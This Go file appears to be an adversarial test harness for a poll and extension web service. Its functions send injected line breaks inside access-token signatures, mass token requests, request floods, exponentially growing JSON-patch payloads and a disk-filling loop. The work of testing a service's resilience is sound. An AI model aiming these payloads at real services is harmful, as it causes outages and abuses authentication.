package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// spellCredentials puts line breaks into the signature, which base64 ignores: each
// number has a spelling of its own.
func spellCredentials(ctx context.Context, a *attacker) {
	clientID, token, _ := strings.Cut(a.Viewer, " ")
	signature := strings.LastIndexByte(token, '.') + 2 // behind its first letter
	a.repeat(ctx, 16, func(n int64) (credential, method, path, body string) {
		var spelled strings.Builder
		for bit := range 20 {
			spelled.WriteString([]string{"%0A", "%0D"}[n>>bit&1])
		}
		spelled.WriteString(strings.Repeat("%0A", 10_000))
		return "", "GET", "/v1/events?topic=*x*&access_token=" + clientID + "%20" + token[:signature] + spelled.String() + token[signature:], ""
	})
}

func askForTokens(ctx context.Context, a *attacker) {
	ids := make([]string, 1_000)
	for i := range ids {
		ids[i] = fmt.Sprint(i)
	}
	list, _ := json.Marshal(ids) // strings only
	body := fmt.Sprintf(`{"extension_id":%q,"channel_id":"1","role":"viewer","user_ids":%s}`, extension, list)
	a.repeat(ctx, 16, func(int64) (credential, method, path, sent string) {
		return "", "POST", "/sandbox/v1/authtoken", body
	})
}

func inventPolls(ctx context.Context, a *attacker) {
	a.repeat(ctx, 64, func(n int64) (credential, method, path, body string) {
		id := []string{"global", "invented"}[n%2] // of all channels, of the victims'
		return a.Viewer, "POST", fmt.Sprintf("/v1/vote?id=%s%d", id, n), `{"value":1}`
	})
}

func readInvented(ctx context.Context, a *attacker) {
	a.repeat(ctx, 64, func(n int64) (credential, method, path, body string) {
		return a.Viewer, "GET", fmt.Sprintf("/v1/vote?id=r%d", n), ""
	})
}

// askForNames names another poll each time. Those within the rate of an address cost a read each.
func askForNames(ctx context.Context, a *attacker) {
	a.repeat(ctx, 64, func(n int64) (credential, method, path, body string) {
		return "", "GET", fmt.Sprintf("/public/%s/1/n%d/result.json", extension, n), ""
	})
}

func inventBuffers(ctx context.Context, a *attacker) {
	entry := `{"d":"` + text(60_000) + `"}`
	a.repeat(ctx, 16, func(n int64) (credential, method, path, body string) {
		return a.Viewer, "POST", fmt.Sprintf("/v1/accumulate?id=b%d", n), entry
	})
}

// bombPatches doubles a tree of empty objects with each operation.
func bombPatches(ctx context.Context, a *attacker) {
	operations := make([]string, 20)
	for i := range operations {
		operations[i] = fmt.Sprintf(`{"op":"copy","from":"","path":"/%c"}`, 'b'+i)
	}
	bomb := "[" + strings.Join(operations, ",") + "]"
	a.repeat(ctx, 8, func(n int64) (credential, method, path, body string) {
		return a.Crowd[n%8], "PATCH", "/v1/viewer_state", bomb
	})
}

// insertBefore moves 28,000 elements with each operation.
func insertBefore(ctx context.Context, a *attacker) {
	const insert = `,{"op":"add","path":"/a/0","value":0}`
	patch := `[{"op":"add","path":"/a","value":[0` + strings.Repeat(",0", 27_999) + `]}` + strings.Repeat(insert, 3_000) + `]`
	a.repeat(ctx, 8, func(n int64) (credential, method, path, body string) {
		return a.Crowd[n%8], "PATCH", "/v1/viewer_state", patch
	})
}

func floodWhispers(ctx context.Context, a *attacker) {
	body := `{"event":"x","data":"` + text(5_000) + `"}`
	a.repeat(ctx, 16, func(n int64) (credential, method, path, sent string) {
		return a.Crowd[n%crowdSize], "POST", "/v1/whisper_self", body
	})
}

func feedHangingHooks(ctx context.Context, a *attacker) {
	a.repeat(ctx, 16, func(n int64) (credential, method, path, body string) {
		return a.Stranger, "POST", fmt.Sprintf("/v1/vote?id=h%d", n), `{"value":1}`
	})
}

// fillDisk takes what room there is, and each byte that becomes free, until it ends.
func fillDisk(ctx context.Context, a *attacker) {
	ballast := filepath.Join(a.Data, "ballast")
	file, err := os.Create(ballast)
	if err != nil {
		a.count(err.Error())
		return
	}
	defer func() {
		_ = file.Close() // it goes
		_ = os.Remove(ballast)
	}()
	for block := make([]byte, 1<<20); ctx.Err() == nil; {
		if _, err := file.Write(block); err != nil { // it has filled the rest
			a.count("full")
			wait(ctx, 10*time.Millisecond)
		}
	}
}
